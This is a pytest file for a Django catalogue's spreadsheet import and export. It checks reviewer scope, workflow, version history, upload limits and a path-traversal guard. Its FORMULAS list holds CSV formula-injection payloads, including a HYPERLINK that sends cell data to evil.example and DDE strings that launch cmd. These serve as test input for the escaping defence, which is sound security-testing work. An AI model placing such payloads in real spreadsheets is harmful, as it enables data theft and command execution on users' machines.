"""Spreadsheets under attack and failure: imports keep the admin's rules and the history,
formulas leave every export as text, and uploads are bounded and never left behind."""

import csv
import io
import json
import os
import tempfile
import time

import openpyxl
import pytest
import tablib
from django.core.exceptions import ImproperlyConfigured, PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reversion.models import Version

from editorial import spreadsheets
from editorial.models import Status
from practices.models import Practice
from practices.resources import PracticeResource, ProgrammeResource

from .factories import (
    make_country,
    make_editor,
    make_practice,
    make_programme,
    make_reviewer,
    make_source,
    make_theme,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def belize():
    return make_country(code="BZ", slug="belize", name_en="Belize")


@pytest.fixture
def panama():
    return make_country(code="PA", slug="panama", name_en="Panama")


@pytest.fixture
def theme():
    return make_theme(slug="regularization")


@pytest.fixture
def source():
    return make_source()


@pytest.fixture
def belize_reviewer(belize):
    return make_reviewer(countries=[belize])


def sheet(theme, source, *rows):
    """A practices spreadsheet: each row a dict of the columns that differ from a good row."""
    good = {
        "id": "",
        "title_en": "Imported practice",
        "title_es": "Práctica importada",
        "summary_en": "Summary",
        "summary_es": "Resumen",
        "description_en": "Description",
        "description_es": "Descripción",
        "countries": "BZ",
        "themes": theme.slug,
        "level": "national",
        "sources": str(source.pk),
        "status": "draft",
    }
    return tablib.Dataset(*[list({**good, **row}.values()) for row in rows], headers=list(good))


def problems(result):
    """{row number, as the spreadsheet numbers it: "column: reason …"} for every refused row."""
    found = {}
    for problem in result.problems:
        found.setdefault(problem.row, []).append(f"{problem.column}: {problem.message}")
    return {row: " ".join(reasons) for row, reasons in found.items()}


def import_practices(data, user, **kwargs):
    return PracticeResource().import_data(data, user=user, **kwargs)


# --- scope, permission and workflow -----------------------------------------------------


def test_scoped_reviewer_cannot_create_an_entry_of_another_country(
    belize_reviewer, panama, theme, source
):
    data = sheet(theme, source, {}, {"countries": "PA"})
    result = import_practices(data, belize_reviewer)
    assert list(problems(result)) == [3]
    assert "You can only work on entries of: Belize" in problems(result)[3]
    assert not Practice.objects.exists()


def test_scoped_reviewer_cannot_change_an_entry_of_another_country(
    belize_reviewer, panama, theme, source
):
    practice = make_practice(countries=[panama], title_en="Panama practice")
    data = sheet(theme, source, {"id": practice.pk, "countries": "PA", "status": "published"})
    result = import_practices(data, belize_reviewer)
    assert "You can only work on entries of" in problems(result)[2]
    assert Practice.objects.get(pk=practice.pk).title_en == "Panama practice"


def test_scoped_reviewer_cannot_bring_another_countrys_entry_into_their_scope(
    belize_reviewer, panama, theme, source
):
    practice = make_practice(countries=[panama])
    data = sheet(theme, source, {"id": practice.pk, "status": "published"})
    result = import_practices(data, belize_reviewer)
    assert "You can only work on entries of" in problems(result)[2]
    assert list(Practice.objects.get(pk=practice.pk).countries.all()) == [panama]


def test_scoped_reviewer_cannot_move_their_entry_to_another_country(
    belize_reviewer, belize, panama, theme, source
):
    practice = make_practice(countries=[belize], status=Status.DRAFT, published_at=None)
    data = sheet(theme, source, {"id": practice.pk, "countries": "BZ|PA"})
    result = import_practices(data, belize_reviewer)
    assert "You can only work on entries of" in problems(result)[2]
    assert list(Practice.objects.get(pk=practice.pk).countries.all()) == [belize]


def test_scoped_reviewer_imports_their_countrys_entries(belize_reviewer, theme, source):
    result = import_practices(sheet(theme, source, {}), belize_reviewer)
    assert not problems(result)
    assert Practice.objects.get().countries.get().code == "BZ"


def test_scoped_reviewer_reimports_an_untouched_entry_shared_with_another_country(
    belize_reviewer, belize, panama
):
    shared = make_practice(countries=[belize, panama])
    data = tablib.Dataset().load(PracticeResource().export().csv, format="csv")
    result = import_practices(data, belize_reviewer)
    assert not problems(result)
    assert [r.import_type for r in result.rows] == ["skip"]
    assert Practice.objects.get() == shared


def test_scope_applies_to_programmes_through_their_country(belize_reviewer, panama):
    programme = make_programme(country=panama, name_en="Panama programme")
    data = ProgrammeResource().export()
    data[0] = tuple(
        "Renamed" if h == "name_en" else v for h, v in zip(data.headers, data[0], strict=True)
    )
    result = ProgrammeResource().import_data(data, user=belize_reviewer)
    assert "You can only work on entries of" in problems(result)[2]
    programme.refresh_from_db()
    assert programme.name_en == "Panama programme"


def test_editor_may_not_import(belize, theme, source):
    with pytest.raises(PermissionDenied):
        import_practices(sheet(theme, source, {}), make_editor())
    assert not Practice.objects.exists()


def test_import_without_a_user_is_refused(belize, theme, source):
    with pytest.raises(PermissionDenied):
        PracticeResource().import_data(sheet(theme, source, {}))
    assert not Practice.objects.exists()


def test_import_cannot_make_a_move_the_workflow_forbids(belize, theme, source):
    practice = make_practice(countries=[belize], status=Status.ARCHIVED)
    data = sheet(theme, source, {"id": practice.pk, "status": "review"})
    result = import_practices(data, make_reviewer())
    assert "cannot go from “Archived” to “In review”" in problems(result)[2]
    assert Practice.objects.get(pk=practice.pk).status == Status.ARCHIVED


def test_new_published_row_gets_its_publication_date_and_who_published_it(belize, theme, source):
    reviewer = make_reviewer()
    result = import_practices(sheet(theme, source, {"status": "published"}), reviewer)
    assert not problems(result)
    practice = Practice.objects.get()
    assert practice.status == Status.PUBLISHED
    assert practice.published_at is not None
    assert practice.status_changed_by == reviewer


def test_status_changed_by_import_records_who_and_when(belize, theme, source):
    practice = make_practice(countries=[belize], status=Status.REVIEW, published_at=None)
    reviewer = make_reviewer()
    data = sheet(theme, source, {"id": practice.pk, "status": "published"})
    assert not problems(import_practices(data, reviewer))
    practice.refresh_from_db()
    assert practice.published_at is not None
    assert practice.status_changed_by == reviewer
    assert practice.status_changed_at is not None


def exported_with(practice, **cells):
    """The practices sheet as exported, its row edited by hand: one cell per keyword."""
    data = tablib.Dataset().load(PracticeResource().export().csv, format="csv")
    data[0] = tuple(cells.get(h, v) for h, v in zip(data.headers, data[0], strict=True))
    return data


def test_a_blank_status_keeps_a_published_entry_published(belize):
    practice = make_practice(countries=[belize], title_en="Published practice")
    data = exported_with(practice, status="", title_en="Retitled")
    assert not problems(import_practices(data, make_reviewer()))
    practice.refresh_from_db()
    assert practice.title_en == "Retitled"
    assert practice.status == Status.PUBLISHED


def test_a_blank_status_makes_a_new_entry_a_draft(belize, theme, source):
    assert not problems(import_practices(sheet(theme, source, {"status": ""}), make_reviewer()))
    assert Practice.objects.get().status == Status.DRAFT


def test_a_published_entry_kept_by_a_blank_status_still_needs_both_languages_said_once(belize):
    practice = make_practice(countries=[belize])
    data = exported_with(practice, status="", summary_es="")
    result = import_practices(data, make_reviewer())
    assert problems(result) == {
        2: "summary_es: A published entry needs this text; the cell is empty."
    }
    assert Practice.objects.get(pk=practice.pk).summary_es


# --- history ------------------------------------------------------------------------------


def test_every_imported_change_gets_a_version_signed_by_the_importer(belize, theme, source):
    existing = make_practice(countries=[belize], status=Status.DRAFT, published_at=None)
    reviewer = make_reviewer()
    data = sheet(theme, source, {}, {"id": existing.pk, "title_en": "Retitled"})
    assert not problems(import_practices(data, reviewer))
    for practice in Practice.objects.all():
        version = Version.objects.get_for_object(practice).get()
        assert version.revision.user == reviewer
        assert version.revision.comment == "Imported from a spreadsheet."
    assert Version.objects.get_for_object(existing).get().field_dict["title_en"] == "Retitled"


def test_imported_version_holds_the_rows_relations(belize, theme, source):
    assert not problems(import_practices(sheet(theme, source, {}), make_reviewer()))
    version = Version.objects.get_for_object(Practice.objects.get()).get()
    assert version.field_dict["countries"] == [belize.pk]


def test_rows_skipped_as_unchanged_get_no_version(belize):
    make_practice(countries=[belize])
    data = tablib.Dataset().load(PracticeResource().export().csv, format="csv")
    result = import_practices(data, make_reviewer())
    assert {r.import_type for r in result.rows} == {"skip"}
    assert not Version.objects.exists()


def test_dry_run_keeps_no_version(belize, theme, source):
    import_practices(sheet(theme, source, {}), make_reviewer(), dry_run=True)
    assert not Version.objects.exists()


def test_refused_file_keeps_no_version(belize, theme, source):
    data = sheet(theme, source, {}, {"countries": "XX"})
    import_practices(data, make_reviewer())
    assert not Version.objects.exists()


# --- through the admin ---------------------------------------------------------------------


def upload(data, name="practices.csv", fmt="0"):
    content = data.export("csv").encode() if isinstance(data, tablib.Dataset) else data
    return {"resource": "0", "format": fmt, "import_file": SimpleUploadedFile(name, content)}


@pytest.fixture
def temp_folder(tmp_path, monkeypatch):
    """The system's temporary folder for this test only, where uploads wait."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(spreadsheets, "UPLOAD_FOLDER", tmp_path / "catalogue-imports")
    return tmp_path


def leftovers(folder):
    return [path for path in folder.rglob("*") if path.is_file()]


def test_admin_dry_run_lists_a_refused_row_with_its_number(
    client, belize_reviewer, panama, theme, source, temp_folder
):
    client.force_login(belize_reviewer)
    data = sheet(theme, source, {}, {"countries": "PA"})
    response = client.post(reverse("admin:practices_practice_import"), upload(data))
    assert response.status_code == 200
    assert [r.number for r in response.context["result"].invalid_rows] == [3]
    assert "You can only work on entries of: Belize" in response.content.decode()
    assert "confirm_form" not in response.context


def test_admin_import_records_the_importer_in_the_history(
    client, belize_reviewer, theme, source, temp_folder
):
    client.force_login(belize_reviewer)
    dry_run = client.post(
        reverse("admin:practices_practice_import"), upload(sheet(theme, source, {}))
    )
    confirmed = client.post(
        reverse("admin:practices_practice_process_import"),
        dry_run.context["confirm_form"].initial,
    )
    assert confirmed.status_code == 302
    version = Version.objects.get_for_object(Practice.objects.get()).get()
    assert version.revision.user == belize_reviewer
    assert not leftovers(temp_folder)


# --- formulas ------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_leaves_the_admin_csv_export_as_text(staff_client, formula):
    make_practice(title_en=formula)
    response = staff_client.post(
        reverse("admin:practices_practice_export"),
        {"format": "0", "resource": "0", "practiceresource_title_en": "on"},
    )
    titles = [row["title_en"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert titles == [f"'{formula}"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_leaves_the_xlsx_export_as_text(formula):
    make_practice(title_en=formula)
    exported = PracticeResource().export().export("xlsx")
    sheet_ = openpyxl.load_workbook(io.BytesIO(exported)).active
    headers = [cell.value for cell in sheet_[1]]
    title = sheet_.cell(row=2, column=headers.index("title_en") + 1)
    assert title.data_type == "s"
    # XML reads a carriage return back as a line feed.
    assert title.value == f"'{formula}".replace("\r", "\n")


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_leaves_the_public_csv_as_text(client, formula):
    make_practice(title_en=formula, themes=[make_theme(name_en=formula)])
    response = client.get(reverse("practices:list") + "?format=csv")
    record = next(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert record["title"] == f"'{formula}"
    assert record["themes"] == f"'{formula}"


def test_public_json_keeps_the_text_as_written(client):
    make_practice(title_en=FORMULAS[0])
    response = client.get(reverse("practices:list") + "?format=json")
    assert json.loads(response.getvalue())["results"][0]["title"] == FORMULAS[0]


@pytest.mark.parametrize(
    "text", [*FORMULAS, "'quoted", "''twice", "'=already escaped", "- a list item", "plain"]
)
def test_escaped_cell_imports_back_as_the_text_it_was(text):
    assert spreadsheets.unescape_formula(spreadsheets.escape_formula(text)) == text


def test_exported_formulas_import_back_unchanged(belize):
    for title in [*FORMULAS, "'=already escaped"]:
        make_practice(countries=[belize], title_en=title)
    data = tablib.Dataset().load(PracticeResource().export().csv, format="csv")
    result = import_practices(data, make_reviewer())
    assert {r.import_type for r in result.rows} == {"skip"}


# --- size and row limits, uploads left behind -------------------------------------------


def test_admin_refuses_a_file_over_the_size_limit(
    staff_client, monkeypatch, theme, source, temp_folder
):
    monkeypatch.setattr(spreadsheets, "MAX_UPLOAD_BYTES", 100)
    response = staff_client.post(
        reverse("admin:practices_practice_import"), upload(sheet(theme, source, {}))
    )
    assert response.status_code == 200
    assert "import files of at most 100" in response.content.decode()
    assert not leftovers(temp_folder)


@pytest.mark.parametrize(("fmt", "name"), [("0", "practices.csv"), ("1", "practices.xlsx")])
def test_admin_refuses_a_file_over_the_row_limit(
    staff_client, monkeypatch, belize, theme, source, temp_folder, fmt, name
):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    data = sheet(theme, source, *[{"title_en": f"Practice {n}"} for n in range(4)])
    content = data.export("csv" if fmt == "0" else "xlsx")
    response = staff_client.post(
        reverse("admin:practices_practice_import"),
        upload(content.encode() if fmt == "0" else content, name, fmt),
    )
    assert response.status_code == 200
    assert "Import at most 3 rows at a time" in response.content.decode()
    assert not Practice.objects.exists()
    assert not leftovers(temp_folder)


def test_admin_imports_a_file_at_the_row_limit(
    staff_client, monkeypatch, belize, theme, source, temp_folder
):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    data = sheet(theme, source, *[{"title_en": f"Practice {n}"} for n in range(3)])
    response = staff_client.post(
        reverse("admin:practices_practice_import"), upload(data.export("xlsx"), "p.xlsx", "1")
    )
    assert "confirm_form" in response.context


def test_failed_dry_run_leaves_no_upload_behind(staff_client, theme, source, temp_folder):
    data = sheet(theme, source, {"countries": "XX"})
    response = staff_client.post(reverse("admin:practices_practice_import"), upload(data))
    assert "XX" in response.content.decode()
    assert not leftovers(temp_folder)


def test_abandoned_uploads_are_removed_by_a_later_upload(temp_folder):
    abandoned = spreadsheets.UploadStorage()
    abandoned.save(b"id,title_en\n")
    an_hour_ago = time.time() - spreadsheets.UPLOAD_LIFETIME_SECONDS - 1
    os.utime(abandoned.path(), (an_hour_ago, an_hour_ago))
    spreadsheets.UploadStorage().save(b"id,title_en\n")
    assert not abandoned.path().exists()
    assert len(leftovers(temp_folder)) == 1


def test_confirming_an_upload_that_is_gone_asks_to_upload_again(
    staff_client, belize, theme, source, temp_folder
):
    url = reverse("admin:practices_practice_import")
    dry_run = staff_client.post(url, upload(sheet(theme, source, {})))
    for path in leftovers(temp_folder):
        path.unlink()
    response = staff_client.post(
        reverse("admin:practices_practice_process_import"),
        dry_run.context["confirm_form"].initial,
        follow=True,
    )
    assert response.redirect_chain[-1][0] == url
    assert "upload it again" in response.content.decode()
    assert not Practice.objects.exists()


def test_confirm_step_cannot_read_files_outside_the_upload_folder(temp_folder):
    secret = temp_folder / "secret.csv"
    secret.write_text("id\n")
    with pytest.raises(spreadsheets.UploadExpired):
        spreadsheets.UploadStorage(name="../secret.csv").read()


def test_upload_folder_made_by_someone_else_is_not_used(temp_folder):
    spreadsheets.UPLOAD_FOLDER.mkdir(mode=0o777)
    spreadsheets.UPLOAD_FOLDER.chmod(0o777)
    with pytest.raises(ImproperlyConfigured):
        spreadsheets.UploadStorage().save(b"id,title_en\n")
    assert not leftovers(temp_folder)
